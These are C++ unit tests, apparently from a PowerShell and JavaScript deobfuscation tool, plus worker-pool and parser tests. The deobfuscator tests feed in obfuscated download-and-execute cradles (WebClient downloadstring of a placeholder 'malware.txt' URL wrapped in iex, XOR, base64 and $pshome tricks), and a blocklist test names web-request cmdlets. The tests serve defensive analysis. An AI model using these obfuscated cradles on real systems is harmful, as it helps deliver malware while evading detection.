TEST(Recovery, VariableInLoopIsNotTraced) {
  // Section V-C: loop-assigned variables are abandoned.
  RecoveryOptions opts;
  const std::string src =
      "$x = ''\nforeach ($c in 1..3) { $x += 'a' }\nWrite-Host $x";
  const std::string out = recovery_pass(src, opts, nullptr);
  EXPECT_TRUE(contains(out, "Write-Host $x"));
}

TEST(Recovery, VariableInConditionalIsNotTraced) {
  RecoveryOptions opts;
  const std::string src = "if ($true) { $y = 'b' }\nWrite-Host $y";
  const std::string out = recovery_pass(src, opts, nullptr);
  EXPECT_TRUE(contains(out, "Write-Host $y"));
}

TEST(Recovery, EnvironmentVariableRecovered) {
  RecoveryOptions opts;
  const std::string out =
      recovery_pass("& ($env:ComSpec[4,24,25] -join '')", opts, nullptr);
  EXPECT_TRUE(contains(out, "'iex'")) << out;
}

TEST(Recovery, PsHomeTrick) {
  RecoveryOptions opts;
  const std::string out =
      recovery_pass(".($pshome[4]+$pshome[30]+'x') 'write-host hi'", opts, nullptr);
  EXPECT_TRUE(contains(out, "'iex'")) << out;
}

TEST(Recovery, BlocklistedPieceIsKept) {
  RecoveryOptions opts;
  const std::string src =
      "(New-Object Net.WebClient).downloadstring('https://test.com/m.txt')";
  EXPECT_EQ(recovery_pass(src, opts, nullptr), src);
}

TEST(Recovery, UnknownVariablePieceIsKept) {
  RecoveryOptions opts;
  const std::string src = "Write-Host ($unknown + 'x')";
  EXPECT_EQ(recovery_pass(src, opts, nullptr), src);
}

TEST(Recovery, ObjectResultIsKept) {
  RecoveryOptions opts;
  const std::string src = "New-Object Net.WebClient";
  EXPECT_EQ(recovery_pass(src, opts, nullptr), src);
}

TEST(Recovery, Base64Recovered) {
  RecoveryOptions opts;
  // "hi" UTF-16LE: aABpAA==
  const std::string out = recovery_pass(
      "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))",
      opts, nullptr);
  EXPECT_EQ(out, "'hi'");
}

TEST(Recovery, InvalidInputUnchanged) {
  RecoveryOptions opts;
  EXPECT_EQ(recovery_pass("if (", opts, nullptr), "if (");
}

TEST(ValueToLiteral, Forms) {
  EXPECT_EQ(value_to_literal(ps::Value("abc")), "'abc'");
  EXPECT_EQ(value_to_literal(ps::Value("it's")), "'it''s'");
  EXPECT_EQ(value_to_literal(ps::Value(42)), "42");
  EXPECT_EQ(value_to_literal(ps::Value(2.5)), "2.5");
  EXPECT_EQ(value_to_literal(ps::Value(true)), "");   // no faithful literal
  EXPECT_EQ(value_to_literal(ps::Value()), "");
}

// --------------------------------------------------------------- blocklist

TEST(Blocklist, KnownEntries) {
  EXPECT_TRUE(is_blocklisted("restart-computer"));
  EXPECT_TRUE(is_blocklisted("start-sleep"));
  EXPECT_TRUE(is_blocklisted("invoke-webrequest"));
  EXPECT_FALSE(is_blocklisted("foreach-object"));
  EXPECT_FALSE(is_blocklisted("invoke-expression"));
}

TEST(Blocklist, ExtraEntries) {
  auto filter = make_recovery_filter({"write-host"});
  EXPECT_FALSE(filter("write-host"));
  EXPECT_TRUE(filter("write-output"));
}

// -------------------------------------------------------------- multilayer

TEST(Multilayer, UnwrapsIexLiteral) {
  const std::string out = deobf("iex 'Write-Host hello'");
  EXPECT_TRUE(contains(out, "Write-Host hello"));
  EXPECT_FALSE(contains(out, "iex"));
}

TEST(Multilayer, UnwrapsPipedIex) {
  const std::string out = deobf("'Write-Host hello' | IeX");
  EXPECT_TRUE(contains(out, "Write-Host hello"));
  EXPECT_FALSE(contains(out, "Invoke-Expression"));
}

TEST(Multilayer, UnwrapsEncodedCommand) {
  const std::string inner = "Write-Host hello";
  const std::string b64 =
      ps::base64_encode(ps::encoding_get_bytes(ps::TextEncoding::Unicode, inner));
  const std::string out = deobf("powershell -eNc " + b64);
  EXPECT_TRUE(contains(out, "Write-Host hello"));
  EXPECT_FALSE(contains(out, b64));
}

TEST(Multilayer, TwoLayers) {
  // Layer 1: concat; layer 2: iex of the recovered string.
  const std::string out = deobf("iex ('Write-Host' + ' hello')");
  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
}

TEST(Multilayer, ThreeLayersViaEncoding) {
  const std::string l0 = "Write-Host hello";
  const std::string l1 = "iex '" + l0 + "'";
  const std::string b64 =
      ps::base64_encode(ps::encoding_get_bytes(ps::TextEncoding::Unicode, l1));
  const std::string l2 = "powershell -EncodedCommand " + b64;
  const std::string out = deobf(l2);
  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
  EXPECT_FALSE(contains(out, "iex"));
}

TEST(Multilayer, ObfuscatedIexNameViaPshome) {
  const std::string out = deobf(".($pshome[4]+$pshome[30]+'x') 'Write-Host hi'");
  EXPECT_TRUE(contains(out, "Write-Host hi")) << out;
}

// ------------------------------------------------------------------ rename

TEST(Rename, RandomNamesAreRenamed) {
  RenameStats st;
  const std::string out =
      rename_pass("$xdjmd = 1; $lsffs = 2; Write-Host $xdjmd $lsffs", &st);
  EXPECT_TRUE(st.renamed);
  EXPECT_TRUE(contains(out, "$var0 = 1"));
  EXPECT_TRUE(contains(out, "$var1 = 2"));
  EXPECT_TRUE(contains(out, "Write-Host $var0 $var1"));
}

TEST(Rename, EnglishNamesAreKept) {
  RenameStats st;
  const std::string src = "$downloader = 1; Write-Host $downloader";
  EXPECT_EQ(rename_pass(src, &st), src);
  EXPECT_FALSE(st.renamed);
}

TEST(Rename, FunctionsAreRenamed) {
  RenameStats st;
  const std::string out =
      rename_pass("function zxqwv { 'x' }; zxqwv", &st);
  EXPECT_TRUE(st.renamed);
  EXPECT_TRUE(contains(out, "function func0"));
  EXPECT_TRUE(contains(out, "func0"));
}

TEST(Rename, AutomaticVariablesUntouched) {
  const std::string src = "$zzxqw = 1; 1..2 | % { $_ }; Write-Host $env:TEMP";
  const std::string out = rename_pass(src, nullptr);
  EXPECT_TRUE(contains(out, "$_"));
  EXPECT_TRUE(contains(out, "$env:TEMP"));
}

TEST(Rename, ExpandableStringReferences) {
  const std::string out =
      rename_pass("$qzxwj = 'ok'; Write-Host \"value: $qzxwj\"", nullptr);
  EXPECT_TRUE(contains(out, "\"value: $var0\"")) << out;
}

// ---------------------------------------------------------------- reformat

TEST(Reformat, CollapsesRandomWhitespace) {
  EXPECT_EQ(reformat_pass("Write-Host      hello    world"),
            "Write-Host hello world\n");
}

TEST(Reformat, IndentsBlocks) {
  const std::string out = reformat_pass("if ($a) { Write-Host hi }");
  EXPECT_TRUE(contains(out, "if ($a) {\n    Write-Host hi\n}")) << out;
}

TEST(Reformat, PreservesMethodAdjacency) {
  const std::string src = "('ab').Replace('a','b')";
  const std::string out = reformat_pass(src);
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
  EXPECT_TRUE(contains(out, ".Replace('a','b')"));
}

TEST(Reformat, SemicolonsBecomeNewlines) {
  const std::string out = reformat_pass("$a = 1; $b = 2");
  EXPECT_TRUE(contains(out, "$a = 1\n$b = 2")) << out;
}

TEST(Reformat, OutputAlwaysReparses) {
  const char* samples[] = {
      "for ($i = 0; $i -lt 3; $i++) { $i }",
      "1,2 | % { $_ * 2 } | ? { $_ -gt 2 }",
      "function f($a) { if ($a) { 'y' } else { 'n' } }",
      "$h = @{ a = 1; b = 2 }; $h['a']",
  };
  for (const char* s : samples) {
    EXPECT_TRUE(ps::is_valid_syntax(reformat_pass(s))) << s;
  }
}

// ------------------------------------------------------------- end to end

TEST(Deobfuscator, Listing2EndToEnd) {
  const std::string out = deobf(
      "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
      "malware.txt')");
  EXPECT_TRUE(contains(out, "New-Object net.webclient")) << out;
  EXPECT_TRUE(contains(out, "https://test.com/malware.txt"));
  EXPECT_FALSE(contains(out, "`"));
}

TEST(Deobfuscator, Listing3EndToEnd) {
  const char* src =
      "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}"
      "{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
      "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes',"
      "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))";
  const std::string out = deobf(src);
  EXPECT_TRUE(contains(out, "https://test.com/malware.txt")) << out;
  EXPECT_TRUE(contains(out, "New-Object")) << out;
  EXPECT_FALSE(contains(out, "-f "));
}

TEST(Deobfuscator, Listing4EndToEnd) {
  // Build a Listing-4-style payload: per-char bxor with 0x4B, multi-char
  // delimiters, invoked via the $env:ComSpec trick.
  const std::string plain =
      "(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')";
  std::string nums;
  const char* delims = "~@d}i,";
  for (std::size_t i = 0; i < plain.size(); ++i) {
    if (i) nums += delims[i % 6];
    nums += std::to_string(static_cast<unsigned char>(plain[i]) ^ 0x4B);
  }
  const std::string src =
      "( '" + nums +
      "' -SPLIT '~' -SPLit 'd' -SPliT '}' -SPLiT 'i' -SpliT ',' -SPLit '@' | "
      "fOrEAch-ObJECt { [cHAR]($_ -BxoR '0x4B') }) -jOiN '' | & ( "
      "$Env:coMSpEC[4,24,25] -JOiN '')";
  const std::string out = deobf(src);
  EXPECT_TRUE(contains(out, "https://test.com/malware.txt")) << out;
}

TEST(Deobfuscator, Fig7CaseStudy) {
  // The paper's running case: L1 + L2 + L3 in one script.
  const std::string b64a = "aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG";
  const std::string b64b = "8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA=";
  const std::string src =
      "i`E`x (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
      "$xdjmd = '" + b64a + "'\n"
      "$lsffs = '" + b64b + "'\n"
      "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String("
      "$xdjmd + $lsffs))\n"
      ".($psHoME[4]+$PShOME[30]+'x') (NeW-oBJeCt "
      "Net.WebClient).downloadstring($sdfs)";
  const std::string out = deobf(src);
  // Fig 7(d): recovered command, traced URL, renamed variables.
  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
  EXPECT_TRUE(contains(out, "https://test.com/malware.txt")) << out;
  EXPECT_TRUE(contains(out, "$var0")) << out;
  EXPECT_TRUE(contains(out, "downloadstring")) << out;
  // The download pipeline itself is blocklisted, not executed.
  EXPECT_TRUE(contains(out, "New-Object"));
}

TEST(Deobfuscator, OutputIsAlwaysValidSyntax) {
  const char* samples[] = {
      "iex ('a'+'b')",
      "$a = 'x'; Write-Host $a",
      "if ($true) { 'y' }",
      "'Write-Host hi' | iex",
      "broken 'input",  // invalid: must come back unchanged
  };
  for (const char* s : samples) {
    const std::string out = deobf(s);
    if (ps::is_valid_syntax(s)) {
      EXPECT_TRUE(ps::is_valid_syntax(out)) << s << " -> " << out;
    } else {
      EXPECT_EQ(out, s);
    }
  }
}

TEST(Deobfuscator, Idempotent) {
  const char* samples[] = {
      "iex ('Write-Host'+' hi')",
      "$xdjmd = 'aAB0'; Write-Host $xdjmd",
      "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://t.co/m.txt')",
  };
  InvokeDeobfuscator d;
  for (const char* s : samples) {
    const std::string once = d.deobfuscate(s);
    const std::string twice = d.deobfuscate(once);
    EXPECT_EQ(once, twice) << s;
  }
}

TEST(Deobfuscator, ReportCounts) {
  InvokeDeobfuscator d;
  DeobfuscationReport report;
  d.deobfuscate("IeX ('Write-Host'+' hi')", report);
  EXPECT_GE(report.token.aliases_expanded, 1);
  EXPECT_GE(report.recovery.pieces_recovered + report.multilayer.layers_unwrapped,
            1);
}

TEST(Deobfuscator, SecureStringEndToEnd) {
  ps::ByteVec key(16);
  for (int i = 0; i < 16; ++i) key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i + 1);
  ps::ByteVec iv(16, 3);
  const std::string blob =
      ps::securestring::protect("Write-Host hello", key, iv);
  const std::string src =
      "$ss = ConvertTo-SecureString '" + blob + "' -Key (1..16)\n"
      "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto("
      "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss)))";
  const std::string out = deobf(src);
  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
}

TEST(Deobfuscator, DeflateEndToEnd) {
  const std::string payload = "Write-Host hello";
  const ps::ByteVec data(payload.begin(), payload.end());
  const std::string b64 = ps::base64_encode(ps::deflate_compress(data));
  const std::string src =
      "iex ((New-Object IO.StreamReader((New-Object "
      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
      "FromBase64String('" + b64 + "'), "
      "[IO.Compression.CompressionMode]::Decompress)), "
      "[Text.Encoding]::ASCII)).ReadToEnd())";
  const std::string out = deobf(src);
  EXPECT_TRUE(contains(out, "Write-Host hello")) << out;
}

TEST(Deobfuscator, PhasesCanBeDisabled) {
  Options opts;
  opts.rename = false;
  opts.reformat = false;
  InvokeDeobfuscator d(opts);
  const std::string out = d.deobfuscate("$zzxqw = 'a'+'b'");
  EXPECT_TRUE(contains(out, "$zzxqw")) << out;  // no renaming
  EXPECT_TRUE(contains(out, "'ab'"));           // recovery still on
}

}  // namespace
}  // namespace ideobf
