// Tests for the process-lifetime work-stealing WorkerPool: every item runs
// exactly once, slots are exclusive (so per-slot scratch needs no locks),
// single-worker jobs stay on the caller, concurrent jobs queue cleanly, and
// an idle slot steals from a busy one. These suites are the ones the TSan
// preset exercises (docs/CI.md).

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <thread>
#include <vector>

#include "psvalue/worker_pool.h"

namespace {

using ps::WorkerPool;

TEST(WorkerPool, EveryItemRunsExactlyOnce) {
  constexpr std::size_t kItems = 500;
  std::vector<std::atomic<int>> counts(kItems);
  WorkerPool::instance().parallel(kItems, 8, [&](std::size_t i, unsigned) {
    counts[i].fetch_add(1, std::memory_order_relaxed);
  });
  for (std::size_t i = 0; i < kItems; ++i) {
    EXPECT_EQ(counts[i].load(), 1) << i;
  }
}

TEST(WorkerPool, ZeroItemsIsANoop) {
  bool ran = false;
  WorkerPool::instance().parallel(0, 8, [&](std::size_t, unsigned) {
    ran = true;
  });
  EXPECT_FALSE(ran);
}

TEST(WorkerPool, SingleWorkerRunsEntirelyOnTheCaller) {
  const auto caller = std::this_thread::get_id();
  std::vector<std::thread::id> ids(64);
  WorkerPool::instance().parallel(ids.size(), 1, [&](std::size_t i, unsigned slot) {
    EXPECT_EQ(slot, 0u);
    ids[i] = std::this_thread::get_id();
  });
  for (const auto& id : ids) EXPECT_EQ(id, caller);
}

TEST(WorkerPool, SlotsAreExclusiveSoScratchNeedsNoLocks) {
  constexpr unsigned kSlots = 4;
  constexpr std::size_t kItems = 400;
  // Deliberately non-atomic: a slot handed to two executors at once would
  // race here (and trip the TSan preset run of this suite).
  struct alignas(64) Scratch {
    long count = 0;
  };
  std::vector<Scratch> scratch(kSlots);
  WorkerPool::instance().parallel(kItems, kSlots, [&](std::size_t, unsigned slot) {
    ASSERT_LT(slot, kSlots);
    scratch[slot].count++;
  });
  long total = 0;
  for (const Scratch& s : scratch) total += s.count;
  EXPECT_EQ(total, static_cast<long>(kItems));
}

TEST(WorkerPool, SlotIndexIsBoundedByItemCount) {
  WorkerPool::instance().parallel(3, 16, [&](std::size_t, unsigned slot) {
    EXPECT_LT(slot, 3u);
  });
}

TEST(WorkerPool, ConcurrentJobsFromManyThreadsAllComplete) {
  constexpr int kJobs = 6;
  constexpr std::size_t kItems = 100;
  std::vector<std::atomic<std::size_t>> done(kJobs);
  {
    std::vector<std::jthread> callers;
    callers.reserve(kJobs);
    for (int j = 0; j < kJobs; ++j) {
      callers.emplace_back([&, j] {
        WorkerPool::instance().parallel(kItems, 3, [&](std::size_t, unsigned) {
          done[j].fetch_add(1, std::memory_order_relaxed);
        });
      });
    }
  }
  for (int j = 0; j < kJobs; ++j) EXPECT_EQ(done[j].load(), kItems);
}

TEST(WorkerPool, IdleSlotStealsFromABusyOne) {
  WorkerPool& pool = WorkerPool::instance();
  if (pool.worker_count() == 0) GTEST_SKIP() << "no resident workers";
  const auto steals_before = pool.steal_count();
  // 8 items over 2 slots, seeded round-robin: even items land on slot 0,
  // odd on slot 1. Slot 0's items sleep; slot 1's are instant, so its
  // executor drains and then steals slot 0's backlog while slot 0 sleeps.
  pool.parallel(8, 2, [&](std::size_t i, unsigned) {
    if (i % 2 == 0) std::this_thread::sleep_for(std::chrono::milliseconds(30));
  });
  EXPECT_GT(pool.steal_count(), steals_before);
}

TEST(WorkerPool, KeepsResidentThreadsAcrossJobs) {
  WorkerPool& pool = WorkerPool::instance();
  const auto jobs_before = pool.job_count();
  pool.parallel(16, 4, [](std::size_t, unsigned) {});
  pool.parallel(16, 4, [](std::size_t, unsigned) {});
  EXPECT_GE(pool.job_count(), jobs_before + 2);
  // The pool always staffs at least 8-way batches regardless of the host.
  EXPECT_GE(pool.worker_count() + 1, 8u);
}

}  // namespace
