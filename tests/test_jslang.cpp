// Unit tests for the JS substrate behind the JavaScript front-end: the
// mini lexer (escapes, regex-vs-division, line-break flags), the mini
// parser (subset coverage, ASI, hostile-input limits), and the constant
// evaluator (string assembly builtins, decoding chains, limits).

#include <gtest/gtest.h>

#include <map>
#include <optional>
#include <string>

#include "jslang/eval.h"
#include "jslang/lexer.h"
#include "jslang/parser.h"

namespace {

using namespace jslang;

// --- Lexer -----------------------------------------------------------------

TEST(JsLangLexer, TokenizesIdentifiersNumbersStrings) {
  const LexResult r = lex("var x = 42; y = 'hi';");
  ASSERT_TRUE(r.ok);
  ASSERT_GE(r.tokens.size(), 8u);
  EXPECT_EQ(r.tokens[0].kind, TokenKind::Ident);
  EXPECT_EQ(r.tokens[0].text, "var");
  EXPECT_EQ(r.tokens[3].kind, TokenKind::Number);
  EXPECT_EQ(r.tokens[3].num_value, 42.0);
}

TEST(JsLangLexer, DecodesStringEscapes) {
  const LexResult r = lex("'\\x41\\u0042\\n\\t\\''");
  ASSERT_TRUE(r.ok);
  ASSERT_EQ(r.tokens.size(), 1u);
  EXPECT_EQ(r.tokens[0].kind, TokenKind::String);
  EXPECT_EQ(r.tokens[0].str_value, "AB\n\t'");
}

TEST(JsLangLexer, HexAndDoubleQuotedStrings) {
  const LexResult r = lex("\"\\x73\\x65\\x63\"");
  ASSERT_TRUE(r.ok);
  EXPECT_EQ(r.tokens[0].str_value, "sec");
}

TEST(JsLangLexer, RegexVsDivisionByPreviousToken) {
  // After an identifier `/` is division; after `=` it starts a regex.
  const LexResult div = lex("a / b / c");
  ASSERT_TRUE(div.ok);
  for (const Token& t : div.tokens) EXPECT_NE(t.kind, TokenKind::Regex);

  const LexResult re = lex("x = /ab+c/g;");
  ASSERT_TRUE(re.ok);
  bool saw_regex = false;
  for (const Token& t : re.tokens) saw_regex |= t.kind == TokenKind::Regex;
  EXPECT_TRUE(saw_regex);
}

TEST(JsLangLexer, NewlineBeforeFlagSurvivesComments) {
  const LexResult r = lex("a // trailing\nb /* block\n */ c");
  ASSERT_TRUE(r.ok);
  ASSERT_EQ(r.tokens.size(), 3u);
  EXPECT_FALSE(r.tokens[0].newline_before);
  EXPECT_TRUE(r.tokens[1].newline_before);
  // The block comment contains a line terminator, so ASI applies across it.
  EXPECT_TRUE(r.tokens[2].newline_before);
}

TEST(JsLangLexer, TemplateLiteralsFailTheLex) {
  EXPECT_FALSE(lex("var x = `tpl${y}`;").ok);
}

TEST(JsLangLexer, ReservedWordsAndIdentifiers) {
  EXPECT_TRUE(is_reserved_word("if"));
  EXPECT_TRUE(is_reserved_word("function"));
  EXPECT_FALSE(is_reserved_word("log"));
  EXPECT_TRUE(is_identifier("_0xabc1"));
  EXPECT_TRUE(is_identifier("$jq"));
  EXPECT_FALSE(is_identifier("3d"));
  EXPECT_FALSE(is_identifier("a-b"));
}

// --- Parser ----------------------------------------------------------------

TEST(JsLangParser, ParsesTheSupportedSubset) {
  EXPECT_TRUE(is_valid_syntax("var a = 1 + 2;"));
  EXPECT_TRUE(is_valid_syntax("function f(x) { return x * 2; }"));
  EXPECT_TRUE(is_valid_syntax("if (a) { b(); } else { c(); }"));
  EXPECT_TRUE(is_valid_syntax("for (var i = 0; i < 3; i++) f(i);"));
  EXPECT_TRUE(is_valid_syntax("while (x) { x--; }"));
  EXPECT_TRUE(is_valid_syntax("try { f(); } catch (e) { g(e); }"));
  EXPECT_TRUE(is_valid_syntax("var o = {a: 1, 'b': 2};"));
  EXPECT_TRUE(is_valid_syntax("x = cond ? a : b;"));
}

TEST(JsLangParser, RejectsWhatItDoesNotModel) {
  EXPECT_FALSE(is_valid_syntax("var x = ;"));
  EXPECT_FALSE(is_valid_syntax("function ( {"));
  EXPECT_FALSE(is_valid_syntax("if (a"));
}

TEST(JsLangParser, AutomaticSemicolonInsertion) {
  // Statements separated only by newlines parse (ASI supplies the `;`).
  EXPECT_TRUE(is_valid_syntax("var a = 1\nvar b = 2\nf(a + b)"));
  // ...but two expressions on one line with no separator do not.
  EXPECT_FALSE(is_valid_syntax("var a = 1 var b = 2"));
}

TEST(JsLangParser, ExtentsCoverTheSourceSlice) {
  const std::string src = "var a = 'x' + 'y';";
  const Program p = parse(src);
  ASSERT_TRUE(p.ok);
  ASSERT_EQ(p.stmts.size(), 1u);
  const Node& decl = *p.stmts[0];
  EXPECT_EQ(decl.kind, Node::Kind::VarDecl);
  EXPECT_EQ(decl.begin, 0u);
  EXPECT_EQ(src.substr(decl.begin, decl.end - decl.begin).substr(0, 3), "var");
}

TEST(JsLangParser, DepthLimitFailsParseNotProcess) {
  std::string bomb;
  for (int i = 0; i < 5000; ++i) bomb += "(";
  bomb += "1";
  for (int i = 0; i < 5000; ++i) bomb += ")";
  EXPECT_FALSE(is_valid_syntax(bomb));
}

// --- Evaluator -------------------------------------------------------------

std::optional<JsValue> eval_expr(
    const std::string& expr,
    const std::map<std::string, JsValue>& env = {}) {
  const Program p = parse(expr + ";");
  if (!p.ok || p.stmts.size() != 1 ||
      p.stmts[0]->kind != Node::Kind::ExprStmt) {
    return std::nullopt;
  }
  return evaluate(*p.stmts[0]->kids[0], env, EvalLimits{});
}

std::string eval_string(const std::string& expr,
                        const std::map<std::string, JsValue>& env = {}) {
  const auto v = eval_expr(expr, env);
  return v && v->kind == JsValue::Kind::String ? v->string : "<fail>";
}

TEST(JsLangEval, StringConcatenation) {
  EXPECT_EQ(eval_string("'ev' + 'al'"), "eval");
  EXPECT_EQ(eval_string("'n=' + 42"), "n=42");
  EXPECT_EQ(eval_string("1 + 2 + 'x'"), "3x");
}

TEST(JsLangEval, FromCharCodeAndCodePoint) {
  EXPECT_EQ(eval_string("String.fromCharCode(104, 105)"), "hi");
  EXPECT_EQ(eval_string("String.fromCharCode(0x41)"), "A");
}

TEST(JsLangEval, AtobDecodesBase64) {
  EXPECT_EQ(eval_string("atob('aGVsbG8=')"), "hello");
  // Whitespace-forgiving, invalid input bails instead of mis-decoding.
  EXPECT_EQ(eval_string("atob('aGVs bG8=')"), "hello");
  EXPECT_FALSE(eval_expr("atob('!!!')").has_value());
}

TEST(JsLangEval, UnescapeAndDecodeURIComponent) {
  EXPECT_EQ(eval_string("unescape('%63%61%6c%63')"), "calc");
  EXPECT_EQ(eval_string("decodeURIComponent('%48i')"), "Hi");
}

TEST(JsLangEval, SplitReverseJoin) {
  EXPECT_EQ(eval_string("'gnirts'.split('').reverse().join('')"), "string");
  EXPECT_EQ(eval_string("'a,b,c'.split(',').join('-')"), "a-b-c");
}

TEST(JsLangEval, SliceCasingAndCharAt) {
  EXPECT_EQ(eval_string("'Download'.toLowerCase()"), "download");
  EXPECT_EQ(eval_string("'abcdef'.slice(1, 4)"), "bcd");
  EXPECT_EQ(eval_string("'abc'.charAt(1)"), "b");
  EXPECT_EQ(eval_string("'hello'.substr(1, 3)"), "ell");
}

TEST(JsLangEval, ParseIntAndNumericOps) {
  const auto v = eval_expr("parseInt('ff', 16)");
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, JsValue::Kind::Number);
  EXPECT_EQ(v->number, 255.0);
  const auto bits = eval_expr("(5 << 2) | 1");
  ASSERT_TRUE(bits.has_value());
  EXPECT_EQ(bits->number, 21.0);
}

TEST(JsLangEval, TracedVariablesResolveFromEnv) {
  std::map<std::string, JsValue> env;
  env["a"] = JsValue::string_value("pay");
  env["b"] = JsValue::string_value("load");
  EXPECT_EQ(eval_string("a + b", env), "payload");
}

TEST(JsLangEval, OutsideTheSubsetBails) {
  // eval() itself is the multilayer pass's business, never folded here.
  EXPECT_FALSE(eval_expr("eval('1+1')").has_value());
  EXPECT_FALSE(eval_expr("document.write('x')").has_value());
  EXPECT_FALSE(eval_expr("unknownVariable + 'x'").has_value());
}

TEST(JsLangEval, StepLimitBoundsRepeat) {
  const Program p = parse("'a'.repeat(1000000000);");
  ASSERT_TRUE(p.ok);
  EvalLimits limits;
  limits.max_value_bytes = 1u << 16;
  EXPECT_FALSE(evaluate(*p.stmts[0]->kids[0], {}, limits).has_value());
}

TEST(JsLangEval, ToJsLiteralRoundTrips) {
  EXPECT_EQ(to_js_literal(JsValue::string_value("a'b\\c")), "'a\\'b\\\\c'");
  EXPECT_EQ(to_js_literal(JsValue::number_value(255)), "255");
  EXPECT_EQ(to_js_literal(JsValue::boolean_value(true)), "true");
  // No faithful literal form: the caller must leave the piece untouched.
  EXPECT_EQ(to_js_literal(JsValue::undefined()), "");
}

TEST(JsLangEval, JsToStringMatchesJsSemantics) {
  EXPECT_EQ(js_to_string(JsValue::number_value(0.5)), "0.5");
  EXPECT_EQ(js_to_string(JsValue::string_value("x")), "x");
  std::vector<JsValue> items;
  items.push_back(JsValue::string_value("a"));
  items.push_back(JsValue::string_value("b"));
  EXPECT_EQ(js_to_string(JsValue::array_value(std::move(items))), "a,b");
}

}  // namespace
