// Second parser battery: statement separation, grouping modes, extents
// under replacement, and constructs wild scripts rely on.

#include <gtest/gtest.h>

#include "psast/parser.h"
#include "pslang/lexer.h"
#include "pslang/alias_table.h"

namespace ps {
namespace {

const PipelineAst& first_pipeline(const ScriptBlockAst& sb) {
  const auto& stmts = sb.named_blocks.front()->statements;
  EXPECT_FALSE(stmts.empty());
  EXPECT_EQ(stmts.front()->kind(), NodeKind::Pipeline);
  return static_cast<const PipelineAst&>(*stmts.front());
}

TEST(Parser2, RunOnStatementsAreRejected) {
  // PowerShell requires newline/semicolon separators; accepting run-on
  // statements would hide exactly the breakage line-flattening introduces.
  EXPECT_FALSE(is_valid_syntax("$a = 1 $b = 2"));
  EXPECT_TRUE(is_valid_syntax("$a = 1; $b = 2"));
  EXPECT_TRUE(is_valid_syntax("$a = 1\n$b = 2"));
}

TEST(Parser2, ParenArgumentKeepsCommandMode) {
  // The `cmd ('a'+'b') -Key 5` regression: after a parenthesized argument
  // the lexer must stay in argument mode.
  auto sb = parse("ConvertTo-SecureString ('a'+'b') -Key (1,2,3)");
  const auto& pipe = first_pipeline(*sb);
  const auto& cmd = static_cast<const CommandAst&>(*pipe.elements[0]);
  bool has_key_param = false;
  for (const auto& el : cmd.elements) {
    if (el->kind() == NodeKind::CommandParameter) {
      has_key_param |= iequals(
          static_cast<const CommandParameterAst&>(*el).name, "-key");
    }
  }
  EXPECT_TRUE(has_key_param);
}

TEST(Parser2, MemberAccessOnParenResultInArguments) {
  EXPECT_TRUE(is_valid_syntax("Write-Host (Get-Date).Length"));
  EXPECT_TRUE(is_valid_syntax("& $list[0] arg"));
  EXPECT_TRUE(is_valid_syntax("Write-Host $a.Length $b.Count"));
}

TEST(Parser2, LineContinuationJoins) {
  EXPECT_TRUE(is_valid_syntax("Write-Host `\n  hello"));
}

TEST(Parser2, NestedGroups) {
  EXPECT_TRUE(is_valid_syntax("((('x')))"));
  EXPECT_TRUE(is_valid_syntax("$( $( 'inner' ) )"));
  EXPECT_TRUE(is_valid_syntax("@( @( 1, 2 ), 3 )"));
  EXPECT_TRUE(is_valid_syntax("@{ outer = @{ inner = 1 } }"));
}

TEST(Parser2, NewlinesInsideParens) {
  EXPECT_TRUE(is_valid_syntax("('a' +\n 'b')"));
  EXPECT_TRUE(is_valid_syntax("[Convert]::FromBase64String(\n'QQ=='\n)"));
}

TEST(Parser2, DoUntil) {
  auto sb = parse("do { $i++ } until ($i -gt 3)");
  const auto* st = sb->named_blocks.front()->statements.front().get();
  ASSERT_EQ(st->kind(), NodeKind::DoWhileStatement);
  EXPECT_TRUE(static_cast<const DoWhileStatementAst*>(st)->is_until);
}

TEST(Parser2, MultipleCatches) {
  auto sb = parse(
      "try { 1 } catch [System.IO.IOException] { 2 } catch { 3 } finally { 4 }");
  const auto* st = sb->named_blocks.front()->statements.front().get();
  ASSERT_EQ(st->kind(), NodeKind::TryStatement);
  const auto* t = static_cast<const TryStatementAst*>(st);
  EXPECT_EQ(t->catch_bodies.size(), 2u);
  EXPECT_NE(t->finally_body, nullptr);
}

TEST(Parser2, SwitchWithQuotedDefaultIsAPattern) {
  // 'default' in quotes is an ordinary pattern, bareword default is not.
  auto sb = parse("switch ($x) { 'default' { 1 } default { 2 } }");
  const auto* st = sb->named_blocks.front()->statements.front().get();
  const auto* sw = static_cast<const SwitchStatementAst*>(st);
  ASSERT_EQ(sw->clauses.size(), 2u);
  EXPECT_NE(sw->clauses[0].pattern, nullptr);
  EXPECT_EQ(sw->clauses[1].pattern, nullptr);
}

TEST(Parser2, BeginProcessEndBlocks) {
  auto sb = parse("begin { $a = 1 } process { $a++ } end { $a }");
  EXPECT_EQ(sb->named_blocks.size(), 3u);
  EXPECT_EQ(sb->named_blocks[0]->name, NamedBlockAst::BlockName::Begin);
  EXPECT_EQ(sb->named_blocks[1]->name, NamedBlockAst::BlockName::Process);
  EXPECT_EQ(sb->named_blocks[2]->name, NamedBlockAst::BlockName::End);
}

